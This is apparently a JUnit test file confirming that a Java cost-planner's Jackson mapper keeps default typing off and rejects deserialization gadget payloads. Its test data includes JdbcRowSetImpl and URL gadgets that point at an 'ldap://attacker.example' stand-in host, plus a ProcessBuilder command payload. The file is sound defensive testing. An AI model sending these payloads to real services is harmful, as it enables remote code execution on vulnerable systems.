package org.llmcostplanner.io;

import com.fasterxml.jackson.databind.ObjectMapper;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.api.Test;

import java.nio.charset.StandardCharsets;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Jackson default typing stays off: a file can never name a Java class to create. Polymorphic
 * gadget payloads are refused as unknown fields or wrong types, like any other bad file.
 */
class DefaultTypingOffTest {

    private static final String HEADER = "{\"format\": \"llm-cost-planner.scenario\", \"version\": 1, ";

    @Test
    void theMapperHasNoDefaultTyping() {
        ObjectMapper mapper = JsonSupport.mapper();
        assertNull(mapper.getDeserializationConfig().getDefaultTyper(mapper.constructType(Object.class)),
                "default typing must stay off");
        assertNull(mapper.getSerializationConfig().getDefaultTyper(mapper.constructType(Object.class)));
    }

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '|', value = {
            "JdbcRowSetImpl as a section | \"api\": [\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://attacker.example/x\", \"autoCommit\": true}]} | api | must be an object, found an array",
            "@class at the top | \"@class\": \"com.sun.rowset.JdbcRowSetImpl\", \"dataSourceName\": \"ldap://attacker.example/x\"} | @class | unknown top-level field",
            "@type in a section | \"workload\": {\"@type\": \"java.net.URL\", \"val\": \"http://attacker.example/\"}} | workload.@type | unknown field in \"workload\"",
            "typed number | \"ops\": {\"setupHours\": [\"java.lang.Double\", 5]}} | ops.setupHours | must be a number, found an array",
            "typed name | \"name\": [\"java.lang.ProcessBuilder\", [\"touch\", \"/tmp/pwned\"]]} | name | must be a string, found an array",
            "@c in notes | \"notes\": {\"@c\": \".ProcessBuilder\"}} | notes | must be a string, found an object",
            "object id | \"@id\": 1, \"selfHost\": {\"@ref\": 1}} | @id | unknown top-level field"})
    void gadgetPayloadIsRefused(String label, String rest, String path, String problem) {
        byte[] json = (HEADER + rest).getBytes(StandardCharsets.UTF_8);
        ScenarioFormatException e = assertThrows(ScenarioFormatException.class, () -> ScenarioFile.parse(json, "gadget.json"));
        assertEquals(path, e.path(), e.getMessage());
        assertTrue(e.problem().contains(problem), e.getMessage());
    }
}
